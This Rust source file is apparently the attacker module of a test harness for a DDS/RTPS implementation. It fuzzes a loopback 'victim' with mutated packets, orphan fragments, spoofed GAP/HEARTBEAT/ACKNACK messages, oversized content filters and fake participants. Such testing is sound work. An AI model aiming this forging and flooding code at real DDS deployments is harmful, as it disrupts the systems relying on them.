//! What is sent to the victim, all the time and in turn.
use crate::packet::{
    NOBODY, Packet, Prefix, SPDP_WRITER, SUBSCRIPTIONS, endpoint, guid, locator, parameter,
    participant, text,
};
use crate::vectors::{Cast, MALLORY_WRITER, Vector};
use crate::{META, USER};
use std::net::UdpSocket;
use std::time::{Duration, Instant};

/// Between two rounds of attacks.
const PAUSE: Duration = Duration::from_millis(4);
/// The enemy's participant is introduced again after so many rounds, since some of the packets make
/// the victim forget it.
const INTRODUCED_EVERY: u32 = 500;
const CONTENT_FILTER: u16 = 0x35;
/// Readers of the enemy's with a filter each; more than a writer judges.
const FILTERS: u8 = 40;

type Attack = fn(&mut Attacker);

/// By name, so that one can be tried alone.
pub(crate) const ATTACKS: [(&str, Attack); 6] = [
    ("vectors", Attacker::vector),
    ("mutations", Attacker::mutation),
    ("holes", Attacker::hole),
    ("forgeries", Attacker::forgery),
    ("filters", Attacker::filter),
    ("inventions", Attacker::invention),
];

/// Numbers that are the same in each run.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, end: usize) -> usize {
        (self.next() % end.max(1) as u64) as usize
    }
}

pub(crate) struct Attacker {
    cast: Cast,
    /// The partner's reader.
    healthy_reader: [u8; 4],
    /// Where the enemy's participant says to be.
    enemy: UdpSocket,
    /// An address that nobody has announced.
    elsewhere: UdpSocket,
    vectors: Vec<Vector>,
    dice: Dice,
    round: u32,
    /// SEDP of the enemy's readers.
    announced: i64,
    pub(crate) sent: u64,
}

impl Attacker {
    pub(crate) fn new(cast: Cast, healthy_reader: [u8; 4], enemy: UdpSocket) -> Self {
        Self {
            vectors: cast.vectors(),
            cast,
            healthy_reader,
            enemy,
            elsewhere: UdpSocket::bind("127.0.0.8:0").unwrap(),
            dice: Dice(0x5eed_0002),
            round: 0,
            announced: 1,
            sent: 0,
        }
    }

    /// Attacks in turn for so long.
    pub(crate) fn run(&mut self, attacks: &[Attack], duration: Duration) {
        let begin = Instant::now();
        while begin.elapsed() < duration {
            if self.round.is_multiple_of(INTRODUCED_EVERY) {
                self.introduce();
            }
            for attack in attacks {
                attack(self);
            }
            self.round += 1;
            std::thread::sleep(PAUSE);
        }
    }

    fn introduce(&mut self) {
        for packet in self.cast.introduction(["A", "B"]) {
            self.send(&packet, &[META]);
            std::thread::sleep(Duration::from_millis(20));
            self.prove();
        }
    }

    /// If the victim asks where the enemy is, it is told.
    fn prove(&mut self) {
        self.enemy.set_nonblocking(true).unwrap();
        let mut room = [0; 65_536];
        while let Ok(length) = self.enemy.recv(&mut room) {
            if let Some(answer) = self.cast.proof(&room[..length]) {
                self.send(&answer, &[META]);
            }
        }
        self.enemy.set_nonblocking(false).unwrap();
    }

    fn send(&mut self, packet: &[u8], to: &[(&str, u16)]) {
        for to in to {
            self.enemy.send_to(packet, to).unwrap();
            self.sent += 1;
        }
    }

    fn vector(&mut self) {
        let at = self.round as usize % self.vectors.len();
        let packet = self.vectors[at].2.clone();
        self.send(&packet, &[META, USER]);
    }

    /// One of them with other bits, cut off, or with its end twice.
    fn mutation(&mut self) {
        let at = self.dice.below(self.vectors.len());
        let mut packet = self.vectors[at].2.clone();
        for _ in 0..=self.dice.below(4) {
            let at = self.dice.below(packet.len());
            let bit = 1 << self.dice.below(8);
            if let Some(byte) = packet.get_mut(at) {
                *byte ^= bit;
            }
        }
        match self.dice.below(4) {
            0 => packet.truncate(self.dice.below(packet.len())),
            1 if packet.len() < 1400 => {
                let from = self.dice.below(packet.len());
                packet.extend_from_within(from..);
            }
            _ => {}
        }
        self.send(&packet, &[META, USER]);
    }

    /// A fragment of a sample of which the rest never comes, of a writer that nobody has announced,
    /// or of the enemy's.
    fn hole(&mut self) {
        let r = self.dice.next().to_le_bytes();
        let writer = match r[0] % 4 {
            0 => MALLORY_WRITER,
            _ => [r[1], r[2], r[3], 0x03],
        };
        let from = match r[0] % 3 {
            0 => self.cast.healthy,
            1 => self.cast.mallory,
            _ => invented(u32::from(r[4])),
        };
        let fragment = 1 + u32::from(r[5]) * 16;
        let sequence = i64::from(self.round) + i64::from(r[6]);
        let packet = Packet::from(from).to(self.cast.victim).frag(
            writer,
            sequence,
            fragment,
            1,
            64,
            60 << 20,
        );
        self.send(&packet.0, &[USER]);
    }

    /// What would make samples of the healthy pair lost, in the partner's name, from where the
    /// partner is not.
    fn forgery(&mut self) {
        let (writer, reader) = (self.cast.healthy_writer, self.healthy_reader);
        let far = 1 << 20 | i64::from(self.round);
        let packet = Packet::from(self.cast.healthy).to(self.cast.victim);
        let packet = match self.round % 5 {
            0 => packet.gap(writer, 1, far, 0, &[]),
            1 => packet.gap(writer, far, far + 1, 32, &[u32::MAX]),
            2 => packet.heartbeat(writer, far, far + 9, 1 << 20 | self.round),
            3 => packet.heartbeat(writer, 1, far, 1 << 20 | self.round),
            _ => {
                let count = 1 << 20 | self.round;
                packet.ack_nack(reader, self.cast.writer, far, 0, &[], count)
            }
        };
        for to in [META, USER] {
            self.elsewhere.send_to(&packet.0, to).unwrap();
            self.sent += 1;
        }
    }

    /// One of the enemy's readers wants something else now.
    fn filter(&mut self) {
        if !self.round.is_multiple_of(5) {
            return;
        }
        self.announced += 1;
        let which = (self.announced % i64::from(FILTERS)) as u8;
        let reader = guid(self.cast.mallory, [1, which, 2, 0x04]);
        let all = self.terms();
        let parameters: Vec<Vec<u8>> = (0..100).map(|n| text(&n.to_string())).collect();
        let property = [
            text("Part"),
            text("B"),
            text("DDSSQL"),
            text(&all),
            100_u32.to_le_bytes().to_vec(),
            parameters.concat(),
        ]
        .concat();
        let more = [parameter(CONTENT_FILTER, &property)];
        let description = endpoint(reader, &text("B"), &text("Numbered"), &more);
        let count = self.announced as u32;
        // What was lost on the way is not waited for.
        let packet = Packet::from(self.cast.mallory)
            .to(self.cast.victim)
            .heartbeat(SUBSCRIPTIONS, self.announced, self.announced, count)
            .data(SUBSCRIPTIONS, self.announced, &description);
        self.send(&packet.0, &[META]);
    }

    /// As many comparisons as are allowed, of as many members; now and then something that is none.
    fn terms(&mut self) -> String {
        let salt = self.dice.below(1000);
        let term = |n: usize| match n % 4 {
            0 => format!("number <> %{}", n % 100),
            1 => format!("data[{}] <> {salt}", n % 28),
            2 => format!("NOT written_at = {n}"),
            _ => format!("number >= {}", n % 3),
        };
        let mut terms: Vec<String> = (0..128).map(term).collect();
        if salt.is_multiple_of(10) {
            terms[127] = format!("data LIKE '%{salt}%'");
        }
        terms.join(" AND ")
    }

    /// A participant that does not exist.
    fn invention(&mut self) {
        for n in 0..4 {
            let prefix = invented(self.round.wrapping_mul(4) + n);
            let place = locator(1, 9999, [127, 0, 0, 9]);
            let data = participant(prefix, &place, &[]);
            let packet = Packet::from(prefix).data(SPDP_WRITER, 1, &data);
            self.send(&packet.0, &[META]);
        }
        // And one that is known says that there is a lot of it.
        let packet = Packet::from(self.cast.mallory)
            .to(self.cast.victim)
            .heartbeat(MALLORY_WRITER, 1, i64::from(self.round), self.round)
            .ack_nack(NOBODY, self.cast.writer, 1, 0, &[], self.round);
        self.send(&packet.0, &[USER]);
    }
}

fn invented(n: u32) -> Prefix {
    let mut prefix = *b"invented....";
    prefix[8..].copy_from_slice(&n.wrapping_mul(0x9e37_79b1).to_be_bytes());
    prefix
}
